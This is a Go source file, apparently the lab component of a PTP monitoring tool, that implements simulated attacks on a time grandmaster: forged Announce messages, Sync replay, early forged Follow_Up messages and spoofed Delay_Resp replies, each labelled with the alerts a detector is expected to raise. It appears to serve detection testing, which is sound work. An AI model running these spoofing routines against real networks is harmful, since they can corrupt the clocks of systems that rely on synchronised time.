//go:build linux

package lab

import (
	"context"
	"time"

	"github.com/ptpwatch/ptpwatch/internal/packet"
	"github.com/ptpwatch/ptpwatch/internal/ptp"
)

// ForgeAnnounce follows each Announce of a grandmaster with one in its name
// that says something else.
type ForgeAnnounce struct {
	Station
	// What it says otherwise; nil is kept.
	Priority1, ClockClass *uint8
	CurrentUTCOffset      *int16
}

func (f *ForgeAnnounce) describe(t *Truth) {
	t.Attack, t.Alerts = "forged-announce", []string{"PTPClockIdentityClone", "PTPGrandmasterDatasetChanged"}
	if f.Priority1 != nil {
		t.Parameters["priority1"] = *f.Priority1
	}
	if f.ClockClass != nil {
		t.Parameters["clock_class"] = *f.ClockClass
	}
	if f.CurrentUTCOffset != nil {
		t.Parameters["current_utc_offset"] = *f.CurrentUTCOffset
	}
	t.Parameters["spoofed_addresses"] = f.Spoof
}

func (f *ForgeAnnounce) attack(ctx context.Context) error {
	return f.each(ctx, func(o *packet.Observation) error {
		m := o.Message
		if m.Type != ptp.AnnounceMessage || m.SourcePortIdentity != f.Victim {
			return nil
		}
		change(&m.Announce.GrandmasterPriority1, f.Priority1)
		change((*uint8)(&m.Announce.GrandmasterClockQuality.ClockClass), f.ClockClass)
		change(&m.Announce.CurrentUTCOffset, f.CurrentUTCOffset)
		m.SequenceID++
		return f.send(alike(o), &m)
	})
}

func change[T any](field, to *T) {
	if to != nil {
		*field = *to
	}
}

// Replay sends each Sync of a grandmaster, and its Follow_Up, a second time
// when it is old.
type Replay struct {
	Station
	Age time.Duration

	waiting []recorded
}

type recorded struct {
	due      time.Time
	envelope Envelope
	message  ptp.Message
}

func (r *Replay) describe(t *Truth) {
	t.Attack, t.Alerts = "sync-replay", []string{"PTPReplay"}
	t.Parameters["age_ns"] = r.Age.Nanoseconds()
	t.Parameters["spoofed_addresses"] = r.Spoof
}

func (r *Replay) attack(ctx context.Context) error {
	return r.loop(ctx, func(o *packet.Observation) error {
		m := o.Message
		if m.SourcePortIdentity == r.Victim && (m.Type == ptp.Sync || m.Type == ptp.FollowUp) {
			m.TLVs = append([]byte(nil), m.TLVs...)
			r.waiting = append(r.waiting, recorded{o.At.Add(r.Age), alike(o), m})
		}
		return nil
	}, r.idle)
}

// idle sends what has come of age.
func (r *Replay) idle() error {
	for len(r.waiting) > 0 && !time.Now().Before(r.waiting[0].due) {
		w := r.waiting[0]
		r.waiting = r.waiting[1:]
		if err := r.send(w.envelope, &w.message); err != nil {
			return err
		}
	}
	return nil
}

// ForgeFollowUp sends the Follow_Up of a Sync before that Sync is sent, so that
// clients take it for the real one, which follows.
type ForgeFollowUp struct {
	Station
	// Shift is how far its preciseOriginTimestamp is from the real one, as far
	// as that can be foretold.
	Shift time.Duration
}

func (f *ForgeFollowUp) describe(t *Truth) {
	t.Attack, t.Alerts = "forged-follow-up", []string{"PTPSyncInjection"}
	t.Parameters["shift_ns"] = f.Shift.Nanoseconds()
	t.Parameters["spoofed_addresses"] = f.Spoof
}

func (f *ForgeFollowUp) attack(ctx context.Context) error {
	return f.each(ctx, func(o *packet.Observation) error {
		m := o.Message
		ns, ok := ptp.Nanoseconds(m.Timestamp)
		every, given := m.LogMessageInterval.Duration()
		if m.Type != ptp.FollowUp || m.SourcePortIdentity != f.Victim || !ok || !given {
			return nil
		}
		m.SequenceID++
		m.Timestamp = ptp.NewTimestamp(ns + int64(every) + int64(f.Shift))
		return f.send(alike(o), &m)
	})
}

// ForgeDelayResp answers Delay_Req in a grandmaster's name, and tries to be
// first.
type ForgeDelayResp struct {
	Station
	// Shift is added to receiveTimestamp, the time at which the request was
	// heard.
	Shift time.Duration
	// LogInterval is the logMessageInterval that clients are to heed.
	LogInterval ptp.LogInterval
}

func (f *ForgeDelayResp) describe(t *Truth) {
	t.Attack, t.Alerts = "forged-delay-resp", []string{"PTPDelayRespAnomaly"}
	if f.LogInterval != ptp.NoInterval && (f.LogInterval < -7 || f.LogInterval > 7) {
		t.Alerts = append(t.Alerts, "PTPDelayIntervalPoisoning")
	}
	t.Parameters["shift_ns"] = f.Shift.Nanoseconds()
	t.Parameters["log_message_interval"] = f.LogInterval
	t.Parameters["spoofed_addresses"] = f.Spoof
}

func (f *ForgeDelayResp) attack(ctx context.Context) error {
	return priority(func() error { return f.each(ctx, f.respond) })
}

func (f *ForgeDelayResp) respond(o *packet.Observation) error {
	if o.Message.Type != ptp.DelayReq {
		return nil
	}
	request := &o.Message
	e := alike(&f.seen)
	if request.Flags.Has(ptp.FlagUnicast) {
		e = answer(o)
		e.SourceMAC, e.SourceAddress = f.seen.SourceMAC, f.seen.Source.Addr()
	}
	return f.send(e, &ptp.Message{
		Type: ptp.DelayResp, SdoID: request.SdoID, VersionPTP: 2, MinorVersionPTP: request.MinorVersionPTP,
		DomainNumber: f.Domain, Flags: request.Flags & ptp.FlagUnicast, CorrectionField: request.CorrectionField,
		SourcePortIdentity: f.Victim, SequenceID: request.SequenceID, ControlField: 3, LogMessageInterval: f.LogInterval,
		Timestamp: ptp.NewTimestamp(o.At.Add(f.Shift).UnixNano()), PortIdentity: request.SourcePortIdentity,
	})
}
